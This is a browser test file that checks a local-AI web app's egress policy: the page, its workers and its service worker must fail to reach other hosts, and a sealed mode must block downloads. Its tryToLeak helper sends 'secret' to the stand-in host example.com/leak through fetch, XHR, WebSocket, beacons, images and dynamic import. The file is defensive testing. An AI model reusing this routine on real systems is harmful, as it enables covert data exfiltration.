import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { builtFolder } from '../../tools/serve/buildApp.ts';
import {
  hasChromium,
  onWasm,
  openPages,
  patient,
  type ServedApp,
  type WatchedPage,
} from '../support/builtApp.ts';
import { atOwnHub, hubModelId as id, startWithHub } from '../support/builtAppWithHub.ts';
import { findFaults } from '../support/findFaults.ts';
import { stepButton } from './smallField.ts';

const elsewhere = 'https://example.com/leak';

/** Tries every way out that a worker has; runs in the page or a worker. Resolves when each has failed or come through. */
async function tryToLeak(address: string): Promise<string[]> {
  const settled = (target: EventTarget) =>
    new Promise<string>((resolve) => {
      for (const type of ['error', 'load', 'open', 'message'])
        target.addEventListener(type, () => resolve(type), { once: true });
      setTimeout(() => resolve('silence'), 2000);
    });
  const asked = (): Promise<string> => {
    const request = new XMLHttpRequest();
    request.open('POST', address);
    const outcome = settled(request);
    request.send('secret');
    return outcome;
  };
  const ways: Record<string, () => Promise<unknown>> = {
    fetch: () => fetch(address, { method: 'POST', body: 'secret', mode: 'no-cors' }),
    import: () => import(/* @vite-ignore */ address),
    ...('XMLHttpRequest' in globalThis && { asked }),
    ...('EventSource' in globalThis && { events: () => settled(new EventSource(address)) }),
    socket: () => settled(new WebSocket(address.replace('https', 'wss'))),
    ...('document' in globalThis && {
      image: () => settled(Object.assign(new Image(), { src: address })),
      beacon: async () => navigator.sendBeacon(address, 'secret'),
    }),
  };
  const outcomes = Object.entries(ways).map(async ([name, way]) => {
    const outcome = await Promise.resolve()
      .then(way)
      .catch(() => 'error');
    return `${name}: ${typeof outcome === 'string' ? outcome : 'came through'}`;
  });
  return Promise.all(outcomes);
}

const kinds = ['chat', 'specializer', 'sources', 'bench', 'storedModels', 'download'];
/** Their threads are workers as well, of these scripts. */
const ofThreads = ['/ort/ort-wasm-simd-threaded.mjs', '/ort/ort-wasm-simd-threaded.asyncify.mjs'];

function scriptOf(kind: string): string {
  if (kind.startsWith('/')) return kind;
  const files = readdirSync(join(builtFolder, 'assets'));
  return `/assets/${files.find((file) => file.startsWith(`${kind}.worker-`) && file.endsWith('.js'))}`;
}

describe.skipIf(!hasChromium)('nobody in the built page reaches another machine:', patient, () => {
  let app: ServedApp;
  let visit: WatchedPage;
  let before: number;

  /** A worker of that kind, as the page starts it. */
  const startWorker = async (kind: string) => {
    const path = scriptOf(kind);
    const [worker] = await Promise.all([
      visit.page.waitForEvent('worker', (started) => started.url().endsWith(path)),
      visit.page.evaluate(
        ([script, name]) => void new Worker(script!, { type: 'module', name: name! }),
        [path, `${kind}-${Math.random()}`],
      ),
    ]);
    return worker;
  };

  beforeAll(async () => {
    app = await onWasm();
    visit = await app.open();
    await visit.page.getByText('Ready', { exact: true }).waitFor();
  });

  beforeEach(() => void (before = app.reachedFor.length));

  afterAll(() => app?.close());

  it('not the page', async () => {
    await visit.page.evaluate(tryToLeak, elsewhere);
    expect(app.reachedFor.slice(before)).toEqual([]);
  });

  it.each([...kinds, ...ofThreads])('not a worker of %s', async (kind) => {
    const worker = await startWorker(kind);
    await worker.evaluate(tryToLeak, elsewhere);
    expect(app.reachedFor.slice(before)).toEqual([]);
  });

  it('not the service worker', async () => {
    const context = visit.page.context();
    const worker = context.serviceWorkers()[0] ?? (await context.waitForEvent('serviceworker'));
    await worker.evaluate(() => navigator.locks.query());
    await worker.evaluate(tryToLeak, elsewhere);
    expect(app.reachedFor.slice(before)).toEqual([]);
  });

  it('but the download worker the Hub, and none beside it', async () => {
    const worker = await startWorker('download');
    const ask = (address: string) => fetch(address).catch(() => null);
    await worker.evaluate(ask, 'https://huggingface.co/api/models/a/b');
    await worker.evaluate(ask, 'https://huggingface.co.example.com/');
    expect(app.reachedFor.slice(before)).toEqual(['https://huggingface.co:443']);
  });
});

describe.skipIf(!hasChromium)('what leaves this machine, in the built page', patient, () => {
  const open = openPages(startWithHub);
  let visit: WatchedPage;
  const asked: string[] = [];
  const line = () => visit.page.getByRole('button', { name: /Nothing leaves this machine/ });
  const seal = () => visit.page.getByRole('switch', { name: /^Reach nobody but/ });
  const row = (what: RegExp) => visit.page.getByRole('row', { name: what });

  beforeAll(async () => {
    visit = await open(atOwnHub);
    const { page } = visit;
    page.context().on('request', (request) => asked.push(request.url()));
    await page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated', undefined, {
      timeout: 120_000,
    });
    await page.reload();
    await page.getByText('Ready', { exact: true }).waitFor();
    await page.getByRole('button', { name: 'Choose another model' }).click();
    await page.getByLabel('From the Hugging Face Hub').fill(id);
    await page.getByRole('button', { name: 'Look it up' }).click();
    await page.getByRole('region', { name: `Offer: ${id}` }).waitFor();
  });

  it('is reached by key, and lists requests of page, workers and threads', async () => {
    const { page } = visit;
    await line().focus();
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { name: 'What leaves this machine' }).waitFor();
    await row(/page GET \/ .*from this browser/)
      .first()
      .waitFor();
    await row(/page GET \/assets\/chat\.worker.* from this browser/)
      .first()
      .waitFor();
    await row(/chat worker GET \/models\/pocket\/onnx\/model_q4\.onnx 2\.9 MB, from this browser/)
      .first()
      .waitFor();
    await row(/download worker GET \/hub\/api\/models/)
      .first()
      .waitFor();
    expect(await page.getByText(/None went to anyone else\./).count()).toBe(1);
  });

  it('shows the policies that were answered', async () => {
    const { page } = visit;
    const reach = (who: string) =>
      page.locator('dt', { hasText: who }).locator('xpath=following-sibling::dd');
    for (const who of ['page', 'specializer worker', 'stored models worker', 'service worker'])
      expect(await reach(who).innerText()).toBe('the server of this page');
    expect(await reach('download worker').innerText()).toMatch(/^the server of this page, huggingface\.co, /);
  });

  it('has no fault that axe can see', async () => {
    expect(await findFaults(visit.page)).toEqual([]);
  });

  it('lists what the policy refuses', async () => {
    await visit.page.evaluate((address) => fetch(address).catch(() => null), elsewhere);
    await row(/page https:\/\/example\.com\/leak refused by the policy/).waitFor();
    expect(await visit.page.getByText(/ 1 request more the policy refused/).count()).toBe(1);
  });

  it('can be sealed: a download then fails with a sentence, and nobody is asked', async () => {
    const { page } = visit;
    await seal().focus();
    await page.keyboard.press('Space');
    await page.getByRole('button', { name: 'Sealed. Nothing leaves this machine.' }).waitFor();
    expect(await findFaults(page)).toEqual([]);
    await stepButton(page, 'Start').click();
    await page.getByRole('button', { name: 'Choose another model' }).click();
    asked.length = 0;
    await page.getByRole('button', { name: /^Download/ }).click();
    await page.getByRole('alert').filter({ hasText: 'This page is sealed: no model can be' }).waitFor();
    expect(await page.getByLabel('From the Hugging Face Hub').count()).toBe(0);
    expect(asked.filter((address) => !address.includes('storedModels.worker'))).toEqual([]);
  });

  it('does not start the download worker in any other way', async () => {
    const outcome = await visit.page.evaluate((path) => {
      const worker = new Worker(path, { type: 'module', name: 'stray' });
      return new Promise((resolve) => {
        worker.addEventListener('error', () => resolve('refused'), { once: true });
        setTimeout(() => resolve('started'), 3000);
      });
    }, scriptOf('download'));
    expect(outcome).toBe('refused');
  });

  it('stays sealed after a reload, until that is lifted', async () => {
    const { page } = visit;
    await page.reload();
    await page.getByRole('button', { name: 'Sealed. Nothing leaves this machine.' }).click();
    await seal().click();
    await line().waitFor();
    await stepButton(page, 'Start').click();
    await page.getByRole('button', { name: 'Choose another model' }).click();
    await page.getByLabel('From the Hugging Face Hub').fill(id);
    await page.getByRole('button', { name: 'Look it up' }).click();
    await page.getByRole('region', { name: `Offer: ${id}` }).waitFor();
    expect(await page.getByRole('alert').count()).toBe(0);
  });
});
